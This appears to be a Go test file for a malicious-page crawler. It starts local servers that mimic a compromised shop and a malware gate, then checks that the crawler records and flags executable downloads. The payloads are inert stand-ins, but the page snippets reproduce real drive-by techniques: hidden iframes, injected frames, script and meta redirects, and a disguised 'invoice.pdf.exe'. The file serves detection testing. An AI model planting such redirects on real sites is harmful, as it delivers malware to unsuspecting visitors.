package crawl_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/crawl"
)

// payload stands in for a dropper: an MZ header and no program.
var payload = []byte("MZ\x90\x00\x03 stand-in for a dropper, never run")

// payload2 is another one, for the page that starts two downloads.
var payload2 = []byte("MZ\x90\x00\x03 another stand-in, never run either")

// gateSites starts site A (the compromised page, on 127.0.0.1) and site B
// (the gate, on 127.0.0.2: another site by its host), and returns their
// base URLs. A's pages send the visitor to B in each way a campaign does;
// B answers with an executable in each way a gate does.
func gateSites(t *testing.T) (a, b string) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip("no 127.0.0.2 on this machine:", err)
	}
	gate := http.NewServeMux()
	// A gate checks the visitor, then redirects to the file.
	gate.HandleFunc("/gate", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/files/"+r.URL.Query().Get("f"), http.StatusFound)
	})
	gate.HandleFunc("/files/update.exe", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-msdownload")
		w.Write(payload)
	})
	gate.HandleFunc("/files/flashplayer", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="flashplayer_update.exe"`)
		w.Write(payload)
	})
	gate.HandleFunc("/files/setup.exe", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-msdos-program")
		w.Write(payload2)
	})
	gate.HandleFunc("/files/invoice", func(w http.ResponseWriter, r *http.Request) {
		// Mislabelled, as gates often serve it: only the disposition says file.
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Disposition", `attachment; filename="invoice.pdf.exe"`)
		w.Write(payload)
	})
	// An exploit kit's landing page in a frame that sends its own frame on.
	gate.HandleFunc("/landing", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<html><body><script>setTimeout(function () { location.replace("/gate?f=update.exe"); }, 20);</script></body></html>`)
	})
	gs := httptest.NewUnstartedServer(gate)
	gs.Listener = ln
	gs.Start()
	t.Cleanup(gs.Close)
	b = gs.URL

	site := http.NewServeMux()
	site.HandleFunc("/favicon.ico", http.NotFound)
	site.HandleFunc("/script", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><p>Welcome to the shop</p>
<script>setTimeout(function () { window.location.href = "%s/gate?f=update.exe"; }, 20);</script></body></html>`, b)
	})
	site.HandleFunc("/iframe", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><p>Welcome to the shop</p>
<iframe src="%s/gate?f=flashplayer" width="1" height="1" style="visibility:hidden"></iframe></body></html>`, b)
	})
	site.HandleFunc("/injected", func(w http.ResponseWriter, r *http.Request) {
		// A script injected into the page writes the frame.
		fmt.Fprintf(w, `<html><body><p>Welcome to the shop</p>
<script>var f = document.createElement("iframe"); f.width = 1; f.height = 1; f.src = "%s/gate?f=setup.exe"; document.body.appendChild(f);</script></body></html>`, b)
	})
	site.HandleFunc("/meta", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><head><meta http-equiv="refresh" content="0;url=%s/gate?f=flashplayer"></head><body>Loading</body></html>`, b)
	})
	site.HandleFunc("/chain", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><p>Welcome to the shop</p>
<iframe src="%s/landing" width="1" height="1"></iframe></body></html>`, b)
	})
	site.HandleFunc("/mislabel", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><script>window.location = "%s/gate?f=invoice";</script></body></html>`, b)
	})
	site.HandleFunc("/popup", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><p>Welcome to the shop</p>
<script>window.open("%s/gate?f=update.exe");</script></body></html>`, b)
	})
	site.HandleFunc("/form", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><form id="f" method="GET" action="%s/gate"><input type="hidden" name="f" value="setup.exe"></form>
<script>document.getElementById("f").submit();</script></body></html>`, b)
	})
	site.HandleFunc("/two", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><iframe src="%[1]s/gate?f=setup.exe" width="1" height="1"></iframe>
<script>setTimeout(function () { window.open("%[1]s/gate?f=update.exe"); }, 50);</script></body></html>`, b)
	})
	as := httptest.NewServer(site)
	t.Cleanup(as.Close)
	return as.URL, b
}

// A download served by a gate on another site than the page (a page on
// site A whose script, frame or refresh sends the visitor to site B, which
// answers with an executable) is recorded as a download, hashed, and judged
// behaviour/executable-download, by both engines.
func TestCrossSiteGateDownload(t *testing.T) {
	a, b := gateSites(t)
	guard := &crawl.Guard{AllowPrivate: true, LoopbackOnly: true}
	engines := []crawl.Engine{crawl.NewStatic(crawl.StaticOptions{Guard: guard})}
	if _, err := crawl.FindChromium(); err == nil {
		br, err := crawl.NewBrowser(crawl.BrowserOptions{Guard: guard, Settle: 500 * time.Millisecond, Limits: crawl.Limits{Timeout: 20 * time.Second}})
		if err != nil {
			t.Fatal(err)
		}
		engines = append(engines, br)
	} else {
		t.Log("no chromium: the browser engine is not tested")
	}
	p, _ := crawl.LookupProfile("ie11-win7")
	j := judge(t)
	for _, e := range engines {
		t.Cleanup(func() { e.Close() })
		for _, path := range []string{"/script", "/iframe", "/injected", "/meta", "/chain", "/mislabel", "/popup", "/form", "/two"} {
			if e.Name() == crawl.EngineStatic && (path == "/injected" || path == "/popup" || path == "/form" || path == "/two") {
				continue // what a script does: only a browser sees it
			}
			t.Run(e.Name()+path, func(t *testing.T) {
				c := e.Visit(context.Background(), crawl.Request{URL: a + path, Profile: p})
				if c.Error != "" {
					t.Fatalf("visit error: %s", c.Error)
				}
				var dl *crawl.Resource
				for i, r := range c.Resources {
					if r.Type == crawl.TypeDownload {
						dl = &c.Resources[i]
					}
				}
				want := crawl.Sum(payload)
				if dl != nil && strings.Contains(dl.URL, "setup.exe") {
					want = crawl.Sum(payload2)
				}
				if dl == nil || !strings.HasPrefix(dl.URL, b+"/") || dl.SHA256 != want {
					var got []string
					for _, r := range c.Resources {
						got = append(got, fmt.Sprintf("%s %s %d %q", r.Type, r.URL, r.Status, r.Error))
					}
					t.Fatalf("no hashed download from the gate: %+v\nresources:\n  %s\ndownloads %q", dl, strings.Join(got, "\n  "), c.Behaviour.Downloads)
				}
				if path == "/two" {
					// Each file with its own URL: the browser's GUID pairs them.
					got := map[string]string{}
					for _, r := range c.Resources {
						if r.Type == crawl.TypeDownload {
							got[r.URL] = r.SHA256
						}
					}
					if len(got) != 2 || got[b+"/files/setup.exe"] != crawl.Sum(payload2) || got[b+"/files/update.exe"] != crawl.Sum(payload) {
						t.Errorf("two downloads: %v", got)
					}
				}
				v := j.Judge(context.Background(), c, nil)
				rules := []string{}
				for _, r := range v.Reasons {
					rules = append(rules, r.Detector+"/"+r.Rule)
				}
				if !slices.Contains(rules, "behaviour/executable-download") || v.Verdict != crawl.Malicious {
					t.Errorf("verdict %s, reasons %q", v.Verdict, rules)
				}
			})
		}
	}
}
